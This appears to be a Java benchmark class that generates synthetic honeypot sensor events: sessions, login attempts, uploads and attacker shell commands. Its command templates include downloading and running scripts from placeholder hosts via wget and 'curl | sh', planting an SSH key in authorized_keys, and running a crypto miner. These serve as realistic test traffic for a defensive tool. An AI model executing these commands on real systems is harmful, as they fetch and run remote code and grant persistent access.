package decnet.bench;

import decnet.core.DeckyName;
import decnet.core.Event;
import decnet.core.EventId;
import decnet.core.Peer;
import decnet.db.StoredEvent;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * Events like those of a busy sensor, always the same: sessions of ten, few addresses and users that come often and many that come
 * once, commands with addresses of their own, and now and then something rare to look for.
 */
final class EventSource {
    private static final List<String> SERVICES = List.of("ssh", "ssh", "ssh", "telnet", "http", "redis", "ftp", "smtp");
    private static final List<String> USERS = List.of("root", "admin", "ubuntu", "test", "oracle", "postgres", "pi");
    private static final List<String> COMMANDS = List.of(
            "uname -a",
            "cat /proc/cpuinfo | grep model | wc -l",
            "cd /tmp; wget http://203.0.113.%d/bot-%x.sh -O x; chmod 777 x; ./x",
            "curl -s http://198.51.100.%d/%x | sh",
            "echo 'ssh-rsa AAAAB3NzaC1yc2E%d%x' >> ~/.ssh/authorized_keys",
            "ls -la /var/log/%d/%x",
            "rm -rf /tmp/.X%d-unix/%x",
            "ps aux | grep -v grep | grep miner%d%x");

    private final SplittableRandom random = new SplittableRandom(42);
    private final Instant start;
    private final Duration step;
    private long number;
    private String service = "ssh";
    private Peer source = Peer.of("203.0.113.9", 40_000);
    private Peer target = Peer.of("10.0.0.1", 22);
    private DeckyName decky = new DeckyName("web-01");
    private String user = "root";

    /** @param step time between two events */
    EventSource(Instant start, Duration step) {
        this.start = start;
        this.step = step;
    }

    List<StoredEvent> next(int count) {
        List<StoredEvent> batch = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            batch.add(next());
        }
        return batch;
    }

    private StoredEvent next() {
        int part = (int) (number % 10);
        if (part == 0) {
            newSession();
        }
        Map<String, String> fields = new LinkedHashMap<>();
        String type =
                switch (part) {
                    case 0 -> "connect";
                    case 1, 2 -> {
                        fields.put("principal", user);
                        fields.put("secret", "password" + random.nextInt(100_000));
                        fields.put("secret_kind", "plaintext");
                        fields.put("outcome", part == 1 ? "rejected" : "accepted");
                        fields.put("method", "password");
                        yield "login_attempt";
                    }
                    case 8 -> {
                        fields.put("name", "x" + random.nextInt(1000) + ".sh");
                        fields.put("size", Integer.toString(random.nextInt(100_000)));
                        fields.put("sha256", hash(random.nextInt(20_000)));
                        fields.put("via", "scp");
                        yield "file_upload";
                    }
                    case 9 -> {
                        fields.put("duration_ms", Integer.toString(random.nextInt(60_000)));
                        fields.put("bytes_in", Integer.toString(random.nextInt(10_000)));
                        fields.put("bytes_out", Integer.toString(random.nextInt(100_000)));
                        fields.put("reason", "client");
                        yield "disconnect";
                    }
                    default -> {
                        fields.put("command", command());
                        fields.put("cwd", "/root");
                        fields.put("user", user);
                        yield "command";
                    }
                };
        number++;
        Instant at = start.plus(step.multipliedBy(number));
        Event event = Event.of(at, decky, service, type, fields)
                .withConnection(String.format(Locale.ROOT, "%016x", number / 10), source, target)
                .withId(new EventId(4711, 0, number))
                .withRecording(at.plusMillis(3), "here");
        return new StoredEvent(number, event);
    }

    private String command() {
        if (number % 400_000 == 5) {
            return "./xmrig-rare --donate-level 0";
        }
        String template = COMMANDS.get(random.nextInt(COMMANDS.size()));
        return String.format(Locale.ROOT, template, random.nextInt(254), random.nextInt());
    }

    static String hash(int number) {
        return String.format(Locale.ROOT, "%08x", number * 0x9e3779b9).repeat(8);
    }

    private void newSession() {
        service = SERVICES.get(random.nextInt(SERVICES.size()));
        // half of all from 200 addresses, the rest from 60 000
        int who = random.nextBoolean() ? random.nextInt(200) : random.nextInt(60_000);
        String network = random.nextInt(50) == 0 ? "10." : "198.";
        source = Peer.of(network + (18 + who % 2) + "." + who / 250 % 250 + "." + (1 + who % 250), 40_000);
        int host = random.nextInt(50);
        decky = new DeckyName("web-" + host);
        target = Peer.of("10.0.0." + (1 + host), service.equals("ssh") ? 22 : 23);
        int draw = random.nextInt(100);
        user = draw < 60
                ? "root"
                : draw < 95 ? USERS.get(random.nextInt(USERS.size())) : "user" + random.nextInt(30_000);
    }
}
